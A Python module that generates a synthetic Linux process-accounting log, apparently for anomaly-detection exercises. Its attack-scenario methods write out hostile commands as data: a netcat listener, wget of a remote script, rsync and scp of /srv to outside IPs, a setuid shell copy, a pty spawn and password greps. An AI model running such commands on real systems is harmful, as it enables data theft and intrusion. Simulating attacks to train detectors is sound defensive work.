"""A made-up log: commands on a company's Linux servers; with attacks."""
from .world import Event, Log, any_time, month_end, weighted


class ProcessAccounting(Log):
    """Commands on a company's Linux servers."""

    name = "process_accounting"
    rows = 40_000
    machines = 0.5
    people = 32
    groups = [("developer", 60), ("data", 25), ("ops", 15)]
    devices = ["pts"]
    commands = {
        "developer": [("git", "pull --rebase", 20), ("ls", "-la", 22), ("make", "test", 10), ("vim", "src/main.py", 12),
                      ("grep", "-rn TODO .", 10), ("docker", "ps", 8), ("python3", "manage.py check", 10), ("ssh", "build-2", 2),
                      ("tail", "-f app.log", 8), ("curl", "-s localhost:8080/health", 3)],
        "data": [("python3", "train.py --epochs 5", 16), ("psql", "-h db-1 sales", 12), ("ls", "-la", 22),
                 ("head", "-n 5 export.csv", 14),
                 ("gzip", "export.csv", 6), ("awk", "-F, {{print $3}}", 8), ("rsync", "-a out/ store:/in/", 3)],
        "ops": [("systemctl", "status app", 22), ("journalctl", "-u app", 20), ("sudo", "systemctl restart app", 8), ("ls", "-la", 14),
                ("df", "-h", 12), ("ssh", "web-1", 12), ("tcpdump", "-i eth0 -c 50", 0.4), ("usermod", "-aG docker {u}", 0.6),
                ("useradd", "-m {u}", 0.4), ("crontab", "-l", 1.5), ("chmod", "640 app.conf", 3)],
    }
    hosts = {"developer": ["build-1", "build-2", "dev-1"], "data": ["data-1", "data-2"], "ops": ["web-1", "web-2", "db-1", "build-1",
        "data-1"]}
    jobs = [("root", "cron", "run-parts", "/etc/cron.hourly", 12), ("www-data", "nginx", "php-fpm", "pool www", 40),
            ("postgres", "postgres", "postgres", "autovacuum worker", 24), ("root", "systemd", "logrotate", "/etc/logrotate.conf", 4),
            ("monitor", "agent", "df", "-P", 20), ("root", "cron", "tar", "czf /backup/etc.tgz /etc", 1.2)]

    def entry(self, user, uid, host, command, arguments, parent, tty, source, cpu, memory, moved):
        return {"host": host, "user": user, "uid": uid, "effective_uid": 0 if command in ("sudo", "usermod",
            "useradd") or uid == 0 else uid, "session": self.dice.randrange(1_000, 99_999), "tty": tty, "source_ip": source,
            "parent": parent, "command": command, "arguments": arguments,
                "directory": f"/home/{user}" if tty else "/", "exit_code": weighted(self.dice, [(0, 94), (1, 5), (130, 1)]),
                "cpu_s": round(cpu, 3), "elapsed_s": round(cpu * self.world.amount(3, 0.8) + 0.01, 3), "memory_kb": int(memory),
                "io_kb": int(moved), "audit": "yes"}

    def everyday(self, person, at):
        command, arguments, _ = self.dice.choices(self.commands[person.group], [weight for *_, weight in self.commands[person.group]])[0]
        heavy = command in ("python3", "make", "gzip", "rsync")
        return self.run(person, command, arguments.format(u=f"u{self.dice.randrange(40)}"), self.world.amount(9 if heavy else 0.03, 1.2),
                        self.world.amount(3_000 * person.scale if heavy else 40, 1.1))

    def run(self, person, command, arguments, cpu, moved):
        mine = self.hosts[person.group]
        host = mine[int(person.favourite * len(mine))] if self.dice.random() < 0.8 else self.dice.choice(mine)
        user = person.name[0] + person.name.partition(".")[2]
        return self.entry(user, 1_000 + person.station, host, command, arguments, "bash" if person.favourite < 0.8 else "zsh",
                          f"pts/{self.dice.randrange(8)}", f"10.50.{len(person.name) % 3}.{person.station}", cpu,
                          self.world.amount(9_000, 0.7) + cpu * 9_000, moved)

    def machine(self):
        user, parent, command, arguments, _ = self.dice.choices(self.jobs, [weight for *_, weight in self.jobs])[0]
        host = {"www-data": ["web-1", "web-2"], "postgres": ["db-1"]}.get(user, ["build-1", "build-2", "dev-1", "data-1", "data-2",
            "web-1",
            "web-2", "db-1"])
        uid = {"root": 0, "www-data": 33, "postgres": 105, "monitor": 998}[user]
        at = any_time(self.dice) if command != "tar" else any_time(self.dice).replace(hour=2)
        return Event(at, self.entry(user, uid, self.dice.choice(host), command, arguments, parent, "", "", self.world.amount(0.2, 0.9),
                                    self.world.amount(20_000, 0.5), self.world.amount(400_000 if command == "tar" else 90, 0.8)))

    def rarities(self):
        for command, arguments in [("strace", "-p 4411"), ("lsof", "-i :8080"), ("fdisk", "-l"), ("perf", "record -g"), ("gdb", "-p 991"),
                                   ("mount", "/dev/sdb1 /mnt"), ("openssl", "x509 -in app.crt -text")] * 3:
            person = self.world.member("ops", "developer")
            yield Event(person.moment(self.dice), self.run(person, command, arguments, self.world.amount(0.3), self.world.amount(200)))
        on_call = self.world.member("ops")
        for _ in range(15):
            at = self.world.night(on_call)
            yield Event(at, self.everyday(on_call, at))
        for _ in range(12):
            person = self.world.member("data")
            yield Event(month_end(self.dice), self.run(person, "rsync", "-a month/ store:/in/", self.world.amount(90),
                self.world.amount(2e6)))

    def attacks(self):
        return {"stolen account": self.stolen, "odd hour": self.odd_hour, "rare command": self.rare, "mass download": self.download,
                "privilege change": self.privilege, "service shell": self.shell}

    def stolen(self):
        person = self.world.member("developer", "data")
        other = self.world.member("developer", "data", "ops")
        unknown = f"10.5{self.dice.choice([1, 2])}.{self.dice.randrange(4)}.{self.dice.randrange(5, 250)}"
        source = unknown if other is person else f"10.50.{len(other.name) % 3}.{other.station}"
        for at in self.world.burst(person.moment(self.dice)):
            command, arguments = self.dice.choice([("ls", "-la"), ("ssh", "web-1"), ("grep", "-rn password ."), ("df", "-h"),
                ("psql", "-h db-1 sales")])
            yield Event(at, self.run(person, command, arguments, self.world.amount(0.03), self.world.amount(40))
                        | {"source_ip": source, "host": self.dice.choice(["db-1", "web-1", "data-1"])})

    def odd_hour(self):
        person = self.world.member("developer", "data")
        for at in self.world.burst(self.world.night(person)):
            yield Event(at, self.everyday(person, at))

    def rare(self):
        person = self.world.member("developer", "data")
        for at in self.world.burst(person.moment(self.dice)):
            command, arguments = self.dice.choice([("nmap", "-sS 10.50.0.0/24"), ("nc", "-lvp 4444"), ("base64", "-d /tmp/.x"),
                ("chattr", "+i /tmp/.x"), ("tcpdump", "-i any -w /tmp/.d"), ("wget", "http://5.12.9.77/k.sh")])
            yield Event(at, self.run(person, command, arguments, self.world.amount(0.1), self.world.amount(90)))

    def download(self):
        person = self.world.member("developer", "data")
        for at in self.world.burst(person.moment(self.dice)):
            command, arguments = self.dice.choice([("rsync", "-a /srv/ 91.12.7.3:/in/"), ("scp", "-r /srv/data x@91.12.7.3:"),
                ("gzip", "all.csv")])
            yield Event(at, self.run(person, command, arguments, self.world.amount(40, 0.5), self.world.amount(6e6, 0.6)))

    def privilege(self):
        person = self.world.member("developer", "data")
        for at in self.world.burst(person.moment(self.dice)):
            command, arguments = self.dice.choice([("sudo", "-i"), ("usermod", "-aG sudo {u}"), ("useradd", "-m {u}"),
                ("chmod", "4755 /tmp/sh")])
            yield Event(at, self.run(person, command, arguments.format(u=f"u{self.dice.randrange(40)}"), self.world.amount(0.03),
                                     self.world.amount(40)))

    def shell(self):
        at = any_time(self.dice)
        for at in self.world.burst(at, 60):
            command, arguments = self.dice.choice([("bash", "-i"), ("ls", "-la"), ("python3", "-c import pty"),
                ("curl", "-s http://86.120.4.9/a"), ("grep", "-rn password .")])
            yield Event(at, self.entry("www-data", 33, self.dice.choice(["web-1", "web-2"]), command, arguments, "php-fpm", "", "",
                                       self.world.amount(0.05), self.world.amount(9_000, 0.5), self.world.amount(60)))
